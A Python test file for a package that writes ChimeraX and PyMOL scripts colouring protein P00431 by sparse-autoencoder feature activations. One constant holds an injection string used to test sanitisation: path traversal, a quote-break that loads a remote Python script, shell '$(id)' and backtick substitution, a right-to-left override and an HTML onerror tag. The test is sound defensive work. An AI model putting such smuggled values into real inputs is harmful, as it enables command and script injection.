"""Scripts for ChimeraX and PyMOL.

Exact lines, exact values, and nothing of a header that a program would run.
"""

import re
from dataclasses import replace
from pathlib import Path

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

from interplm_nb.readers import demo
from interplm_nb.widgets.colours import NOT_IN_STRUCTURE, SCALE
from interplm_nb.widgets.structure.molecular_scripts import safe_name, write_scripts

PROTEIN = demo.structure("P00431")
LENGTH = 361
VALUES = np.round(np.random.default_rng(0).random(LENGTH), 4)
HOSTILE = '../P1"; open http://x.example/x.py; \n@evil.pml\\ $(id) `id` \u202e<img onerror=1>'


def scripts(folder: Path, **options) -> tuple[str, str, str]:
    paths = write_scripts(PROTEIN, VALUES, folder, 1503, "sae", **options)
    assert [path.suffix for path in paths] == [".pdb", ".cxc", ".pml"]
    pdb, cxc, pml = (path.read_text(encoding="ascii") for path in paths)
    return pdb, cxc, pml


def test_every_b_factor_is_the_activation_times_100(tmp_path: Path) -> None:
    text, _, _ = scripts(tmp_path)
    atoms = [line for line in text.splitlines() if line.startswith(("ATOM", "HETATM"))]
    assert len(atoms) == PROTEIN.atoms.array_length()
    n = 0
    for line, position in zip(atoms, PROTEIN.atom_positions.tolist(), strict=True):
        assert line[60:66] == (f"{VALUES[position - 1] * 100:6.2f}" if position else " -1.00")
        n += position > 0
    assert n > 2000


def test_lines_for_chimerax(tmp_path: Path) -> None:
    model = '##name="iplm_feature_1503_P00431"'
    assert scripts(tmp_path)[1].splitlines() == [
        "# Feature 1503 of sae on P00431 (P00431.pdb.gz, chain A).",
        "# B-factors are activations in percent of the feature's maximum on training "
        "proteins; -1: no UniProt position, activation unknown.",
        "# Side chains from an activation of 0.5 of the maximum.",
        "open feature_1503_P00431.pdb name iplm_feature_1503_P00431",
        "set bgColor white",
        f"hide {model} atoms",
        f"show {model} & protein cartoons",
        f"color byattribute bfactor {model} & protein target ac palette "
        "#e6e6e6:#cfdbe8:#a9c6df:#7daed3:#5193c4:#2f75b0:#1b5795:#0d3a75:#051f4d range 0,100",
        f"color {model} & protein & @@bfactor<0 #d9b26f target ac",
        f"show {model} & sidechain & @@bfactor>=50 atoms",
        f"style {model} & protein stick",
        f"show {model} & ~protein & ~solvent atoms",
        f"style {model} & ~protein ball",
        f"color {model} & ~protein byelement",
        "key #e6e6e6:0 #cfdbe8: #a9c6df:0.25 #7daed3: #5193c4:0.5 #2f75b0: #1b5795:0.75 "
        "#0d3a75: #051f4d:1 "
        "pos 0.04,0.06 size 0.3,0.03 fontSize 16 numericLabelSpacing equal",
        '2dlabels text "feature 1503: activation / maximum" xpos 0.04 ypos 0.11 size 16',
        f"view {model}",
    ]


def test_lines_for_pymol(tmp_path: Path) -> None:
    lines = scripts(tmp_path, threshold=0.8)[2].splitlines()
    assert lines[:3] == [
        "# Feature 1503 of sae on P00431 (P00431.pdb.gz, chain A).",
        "# B-factors are activations in percent of the feature's maximum on training "
        "proteins; -1: no UniProt position, activation unknown.",
        "# Side chains from an activation of 0.8 of the maximum.",
    ]
    model = "iplm_feature_1503_P00431"
    assert lines[3:-2] == [
        f"load feature_1503_P00431.pdb, {model}",
        "bg_color white",
        f"hide everything, {model}",
        f"show cartoon, {model} and polymer",
        f"set cartoon_discrete_colors, 1, {model}",
        "spectrum b, 0xe6e6e6 0xcfdbe8 0xa9c6df 0x7daed3 0x5193c4 0x2f75b0 0x1b5795 "
        f"0x0d3a75 0x051f4d, {model} and polymer and b > -0.5, 0, 100",
        f"color 0xd9b26f, {model} and polymer and b < -0.5",
        f"show sticks, {model} and polymer and (sidechain or name CA) and not b < 80",
        f"show sticks, {model} and organic",
        f"show spheres, {model} and inorganic",
        f"util.cbag {model} and not polymer",
        "# the key, in activation / maximum",
    ]
    assert lines[-1] == f"orient {model}"


def test_pymols_key_has_the_colours_of_all_views(tmp_path: Path) -> None:
    line = scripts(tmp_path)[2].splitlines()[-2]
    stops, colours = re.fullmatch(
        r"ramp_new iplm_feature_1503_P00431_key, none, \[(.*?)\], \[(\[.*\])\]", line
    ).groups()  # pyright: ignore
    assert [float(stop) for stop in stops.split(",")] == [i / 8 for i in range(9)]
    found = [
        "#" + "".join(f"{round(float(c) * 255):02x}" for c in part.split(","))
        for part in re.findall(r"\[([^\]]+)\]", colours)
    ]
    assert tuple(found) == SCALE


def test_the_unmapped_colour_is_that_of_all_views(tmp_path: Path) -> None:
    _, chimerax, pymol = scripts(tmp_path)
    assert f"@@bfactor<0 {NOT_IN_STRUCTURE} target" in chimerax
    assert f"color 0x{NOT_IN_STRUCTURE[1:]}, " in pymol


def test_nothing_hostile_reaches_a_name_or_a_script(tmp_path: Path) -> None:
    hostile = replace(PROTEIN, accession=HOSTILE, name=HOSTILE, chain=HOSTILE)
    folder = tmp_path / "out"
    for name in ("", HOSTILE):
        paths = write_scripts(hostile, VALUES, folder, 7, HOSTILE, name)
        assert all(
            path.parent == folder and re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._-]*", path.name)
            for path in paths
        )
        plain = write_scripts(
            replace(PROTEIN, accession="A", name="A", chain="A"),
            VALUES,
            tmp_path / "plain",
            7,
            "A",
            "A",
        )
        for path, same in zip(paths[1:], plain[1:], strict=True):
            lines, wanted = path.read_text().splitlines(), same.read_text().splitlines()
            word = safe_name(name or f"feature_7_{HOSTILE}")
            expected = [
                line.replace("iplm_A", "iplm_" + re.sub(r"[.-]", "_", word)).replace(
                    "A.pdb", f"{word}.pdb"
                )
                for line in wanted[1:]
            ]
            assert lines[1:] == expected
            assert re.fullmatch(
                r"# Feature 7 of [\w.-]+ on [\w.-]+ \([\w.-]+, chain [\w.-]+\)\.",
                lines[0],
                re.ASCII,
            )
    assert sorted(path.name for path in tmp_path.iterdir()) == ["out", "plain"]


@given(st.text(max_size=200))
def test_a_safe_name_is_one_whatever_it_was(text: str) -> None:
    name = safe_name(text)
    assert re.fullmatch(r"[A-Za-z0-9._-]{1,80}", name)
    assert name[0] not in ".-_"
    assert safe_name(name) == name


def test_safe_names() -> None:
    assert safe_name("AF-P69905-F1.v4") == "AF-P69905-F1.v4"
    assert safe_name("sp|P69905|HBA human") == "sp_P69905_HBA_human"
    assert safe_name("α") == safe_name("") == "unnamed"


def test_values_that_do_not_fit_write_nothing(tmp_path: Path) -> None:
    for values, message in (
        (VALUES[:50], "one value per position of P00431"),
        (-VALUES, "not negative"),
        (VALUES * np.nan, "finite"),
    ):
        with pytest.raises(ValueError, match=message):
            write_scripts(PROTEIN, values, tmp_path / "out", 1, "sae")
    assert not (tmp_path / "out").exists()
